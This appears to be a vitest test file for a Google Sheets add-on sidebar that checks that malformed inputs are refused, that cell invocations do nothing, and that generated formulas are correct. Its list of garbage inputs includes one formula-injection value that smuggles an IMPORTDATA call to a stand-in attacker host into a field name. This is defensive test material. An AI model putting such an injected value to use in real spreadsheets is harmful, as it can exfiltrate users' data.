import { describe, expect, it } from 'vitest';
import type { SidebarApi } from '../../src/rpc/contract.ts';
import { callNames } from '../support/sidebar.ts';
import { functionDeclarations } from './built.ts';
import { openDesk } from './sidebar-desk.ts';

const calls = functionDeclarations
  .map(({ id }) => id.name)
  .filter((name) => name.startsWith('sidebar')) as (keyof SidebarApi)[];
const withInput = functionDeclarations.filter(({ id, params }) => id.name.startsWith('sidebar') && params.length > 0);

const garbage: unknown[] = [
  null,
  5,
  'text',
  [],
  {},
  { place: 'everywhere', apiKey: {} },
  { sheetId: -1, row: 0, column: 'A', linkColumn: 0, confirmed: -1, columns: {}, intervalHours: 1e9, metadata: 'x' },
  { id: '' },
  { id: ['run'] },
  { name: 'IMPORTDATA', fields: ['"'] },
  { name: 'CA_VIDEO', fields: ['views"&IMPORTDATA("https://evil.example")&"'] },
];

describe('the calls of the sidebar', () => {
  it('are all there', () => {
    expect([...calls].sort()).toEqual([...callNames].sort());
  });

  it('refuse garbage in words, and send, write and store nothing', async () => {
    const { session, sandbox, call } = await openDesk();
    const before = JSON.stringify([...session.host.properties()].map(([, store]) => [...store]));
    for (const { id } of withInput) {
      for (const input of garbage) {
        // Nothing is what these take for "the sheet in front".
        if (
          ['sidebarLookOver', 'sidebarReport'].includes(id.name) &&
          !JSON.stringify(input)?.includes('sheetId') &&
          typeof input === 'object' &&
          !Array.isArray(input)
        )
          continue;
        const reply = await call(id.name as keyof SidebarApi, input);
        expect(reply, `${id.name} ${JSON.stringify(input)}`).toMatchObject({
          ok: false,
          code: 'bad_input',
          message: expect.stringMatching(/\w+ .*\./),
        });
      }
    }
    expect(sandbox.requests).toEqual([]);
    expect(JSON.stringify([...session.host.properties()].map(([, store]) => [...store]))).toBe(before);
  });

  it.each(calls)('%s in a cell says that it is only for the sidebar, and does nothing', async (name) => {
    const { session, sandbox, answer } = await openDesk();
    session.startCosts();
    const shown = await answer(`=${name}({"apiKey","${sandbox.keys.full}"})`);
    expect(shown).toMatch(/^error: .*only be done from the CreatorAudit sidebar/);
    expect(sandbox.requests).toEqual([]);
    const [execution] = session.host.executions.slice(-1);
    expect(Object.keys(execution?.callsByMember ?? {})).toEqual([]);
  });

  it('checkConnection in a cell asks nobody', async () => {
    const { sandbox, answer } = await openDesk();
    expect(await answer('=checkConnection()')).toMatch(/^error: /);
    expect(sandbox.requests).toEqual([]);
  });

  it('come back as what google.script.run can carry', async () => {
    const { call } = await openDesk();
    for (const name of [
      'sidebarOpen',
      'sidebarSchedule',
      'sidebarSelectedPost',
      'sidebarActivity',
      'sidebarCheckUp',
    ] as const) {
      expect(await call(name)).toMatchObject({ ok: true });
    }
  });
});

describe('what the sidebar shows', () => {
  it('opens with one request a day at most', async () => {
    const { session, value } = await openDesk();
    session.startCosts();
    expect(await value('sidebarOpen')).toMatchObject({ connections: { used: 'spreadsheet' }, run: null, notice: null });
    await value('sidebarOpen');
    expect(session.costs().requests).toBe(1);
  });

  it('has the post of the selected row, with numbers and trend', async () => {
    const { session, posts, value, select } = await openDesk();
    const rows = posts.slice(0, 3).map(({ url }) => [url]);
    await session.enter('Sheet1', 1, 1, [['Link'], ...rows]);
    select(3, 1);
    const post = await value('sidebarSelectedPost');
    expect(post).toMatchObject({ row: 3, link: posts[1]?.url, status: 'Tracked', message: null });
    expect(post.numbers.map(({ label }) => label)).toContain('Views');
    expect(post.trend.at(-1)?.daysAgo).toBe(0);
  });

  it('inserts a formula that works at once', async () => {
    const { session, posts, value, select } = await openDesk();
    await session.enter('Sheet1', 1, 1, [['Link'], ...posts.slice(0, 3).map(({ url }) => [url])]);
    select(1, 2);
    const input = { name: 'CA_VIDEO', fields: ['view_count', 'status'] };
    const preview = await value('sidebarInsertFormula', input);
    expect(preview).toEqual({
      formula: '=VSTACK(HSTACK("Views", "Status"), CA_VIDEO(A2:A4, "views, status", CA_REFRESH))',
      cell: 'B1',
      links: 'A2:A4',
      obstacle: null,
    });
    await session.reopenAll();
    const [headers, first] = session.workbook.result({ sheet: 'Sheet1', row: 1, column: 2 }) as unknown[][];
    expect(headers).toEqual(['Views', 'Status']);
    expect(first).toEqual([expect.any(Number), 'Tracked']);
    expect((await value('sidebarFormula', input)).obstacle).toMatch(/B1 is not empty/);
  });

  it('inserts a formula in the language of the spreadsheet', async () => {
    const { session, posts, value, select } = await openDesk({ locale: 'de_DE' });
    await session.enter('Sheet1', 1, 1, [['Link'], [posts[0]?.url ?? '']]);
    select(2, 2);
    const { formula } = await value('sidebarInsertFormula', { name: 'CA_VIDEO', fields: ['view_count'] });
    expect(formula).toBe('=CA_VIDEO(A2; "views"; CA_REFRESH)');
    await session.reopenAll();
    expect(session.workbook.result({ sheet: 'Sheet1', row: 2, column: 2 })).toEqual([[expect.any(Number)]]);
  });
});
